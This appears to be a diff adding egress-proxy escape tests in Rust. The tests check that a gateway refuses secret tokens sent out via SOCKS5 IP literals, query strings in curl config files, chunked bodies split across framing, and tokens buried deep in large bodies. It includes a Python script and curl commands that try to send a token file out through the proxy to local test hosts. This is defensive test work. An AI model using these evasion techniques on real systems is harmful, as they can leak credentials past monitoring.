@@ -702,6 +702,20 @@ escape_test! {
         let o = gw_exec(&env, &pf, &["curl", "-f", "-sS", "-m", "10", &url]);
         assert_ne!(o.status.code(), Some(0), "{}", text(&o));
         assert_refused(&o, &format!("127.0.0.1:{p}"), "network.address", "an IP literal");
+        // The same address as a SOCKS5 request of type IPv4 (curl resolves nothing itself).
+        let url = format!("http://127.0.0.1:{p}/socks-literal");
+        let o = gw_exec(
+            &env,
+            &pf,
+            &["curl", "-sS", "-m", "10", "-x", "socks5://127.0.0.1:3128", &url],
+        );
+        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
+        assert_refused(
+            &o,
+            &format!("127.0.0.1:{p}"),
+            "network.address",
+            "an IPv4 SOCKS5 request",
+        );
         assert!(f.requests().is_empty(), "{}", f.requests());
         assert_log_verifies(&env);
     }
@@ -874,6 +888,17 @@ escape_test! {
     }
 }
 
+/// Asserts that no request body the server read for `path` held the token.
+fn assert_no_token_arrived(f: &Fixture, path: &str) {
+    assert!(
+        !f.requests()
+            .lines()
+            .any(|l| l.starts_with("BODY ") && l.contains(path) && l.ends_with(" True")),
+        "the token reached the server in {path}: {}",
+        f.requests()
+    );
+}
+
 /// Probes from inside the command: every way around the proxy, and the proxy itself as the
 /// control (it must be reachable, or the probe proves nothing).
 const PROBES: &str = r#"
@@ -980,6 +1005,32 @@ print("first", send("GET", "keepalive-first"), flush=True)
 print("second", send("POST", "keepalive-second", f"token={token}"), flush=True)
 "#;
 
+/// A chunked POST through the proxy (`argv[2]` its path) whose body carries the token in
+/// `token.txt`: in one chunk (`chunked-whole`) or split across two (`chunked-split`, the
+/// framing between its halves). Prints the proxy's status line.
+const CHUNKED: &str = r#"
+import socket, sys
+port, path = sys.argv[1], sys.argv[2]
+token = open("token.txt").read().strip()
+body = ("token=" + token).encode()
+parts = [body] if path == "chunked-whole" else [body[:12], body[12:]]
+s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+head = (f"POST http://pkg.test:{port}/{path} HTTP/1.1\r\nHost: pkg.test:{port}\r\n"
+        "Transfer-Encoding: chunked\r\nContent-Type: text/plain\r\n\r\n").encode()
+chunks = b"".join(b"%x\r\n%s\r\n" % (len(c), c) for c in parts) + b"0\r\n\r\n"
+s.sendall(head + chunks)
+resp = b""
+while True:
+    try:
+        d = s.recv(4096)
+    except OSError:
+        break
+    if not d:
+        break
+    resp += d
+print(resp.split(b"\r\n")[0].decode(errors="replace"), flush=True)
+"#;
+
 escape_test! {
     /// A plaintext HTTP request carrying a secret — in its body, in a header, or as the
     /// second request on a kept-alive connection — is refused with `secrets.input` and never
@@ -1027,6 +1078,21 @@ escape_test! {
                 &[conn("pkg.test", p, "deny", "secrets.input")],
             );
         }
+        // In the query (the URL from a curl config file: a token on the command line is
+        // refused before the command runs).
+        env.write(
+            "query.cfg",
+            &format!("url = \"http://{dest}/secret-query?access_token={token}\"\n"),
+        );
+        let o = gw_exec(&env, &pf, &["curl", "-f", "-sS", "-m", "10", "-K", "query.cfg"]);
+        assert_eq!(o.status.code(), Some(22), "a token in the query: {}", text(&o));
+        assert_refused(&o, &dest, "secrets.input", "a token in the query");
+        assert!(!f.saw("/secret-query"), "{}", f.requests());
+        // In a chunked body (split across chunks: `a_secret_split_across_chunks_is_refused`).
+        let o = gw_exec(&env, &pf, &["python3", "-c", CHUNKED, &p.to_string(), "chunked-whole"]);
+        assert!(stdout(&o).starts_with("HTTP/1.1 403"), "{}", text(&o));
+        assert_refused(&o, &dest, "secrets.input", "a chunked body");
+        assert_no_token_arrived(&f, "chunked-whole");
         let o = gw_exec(&env, &pf, &["python3", "-c", KEEPALIVE, &p.to_string()]);
         assert!(stdout(&o).contains("first 200"), "{}", text(&o));
         assert!(stdout(&o).contains("second 403"), "{}", text(&o));
@@ -1116,5 +1182,66 @@ escape_test! {
         log.assert_connections("approved", &[conn("ask.test", p, "allow", "network.unknown")]);
         log.assert_connections("denied", &[conn("ask.test", p, "deny", "network.unknown")]);
         assert_log_verifies(&env);
+    }
+}
+
+escape_test! {
+    /// A chunked body whose chunk framing splits the token (`token=ghp_xxxx` `\r\n1a\r\n`
+    /// `rest`): the server joins the chunks and gets the whole token, so the proxy must scan
+    /// the body as the server will read it, not its framing.
+    fn a_secret_split_across_chunks_is_refused() {
+        let env = Env::new("net-chunks");
+        let f = Fixture::start(&env, &[]);
+        let p = f.port;
+        let pf = proxy_policy(
+            &env,
+            "p",
+            &[format!("pkg.test:{p}"), format!("127.0.0.1:{p}")],
+            &[],
+            "deny",
+        );
+        env.write("token.txt", &format!("{}\n", gh_token(37)));
+        let o = gw_exec(&env, &pf, &["python3", "-c", CHUNKED, &p.to_string(), "chunked-split"]);
+        assert!(stdout(&o).starts_with("HTTP/1.1 403"), "{}: {}", f.requests(), text(&o));
+        assert_refused(&o, &format!("pkg.test:{p}"), "secrets.input", "a split token");
+        assert_no_token_arrived(&f, "chunked-split");
+    }
+}
+
+escape_test! {
+    /// A token deep in a large body (past the first window the proxy scans, after the head
+    /// and the body's start went upstream): refused with a 403 and the line on stderr, and
+    /// nothing that holds the token leaves.
+    fn a_secret_deep_in_a_large_body_is_refused() {
+        let env = Env::new("net-deep");
+        let f = Fixture::start(&env, &[]);
+        let p = f.port;
+        let pf = proxy_policy(
+            &env,
+            "p",
+            &[format!("pkg.test:{p}"), format!("127.0.0.1:{p}")],
+            &[],
+            "deny",
+        );
+        let token = gh_token(38);
+        let dest = format!("pkg.test:{p}");
+        let url = |path: &str| format!("http://{dest}/{path}");
+        env.write(
+            "big.txt",
+            &format!("a={}&token={token}&b={}", "x".repeat(200_000), "y".repeat(1000)),
+        );
+        let o = gw_exec(
+            &env,
+            &pf,
+            &["curl", "-f", "-sS", "-m", "10", "--data-binary", "@big.txt", &url("secret-deep")],
+        );
+        // What must never happen first, then what the command is told.
+        assert_no_token_arrived(&f, "/secret-deep");
+        Log::read(&env).assert_connections(
+            "secret-deep",
+            &[conn("pkg.test", p, "deny", "secrets.input")],
+        );
+        assert_eq!(o.status.code(), Some(22), "a token deep in the body: 403: {}", text(&o));
+        assert_refused(&o, &dest, "secrets.input", "a token deep in the body");
     }
 }
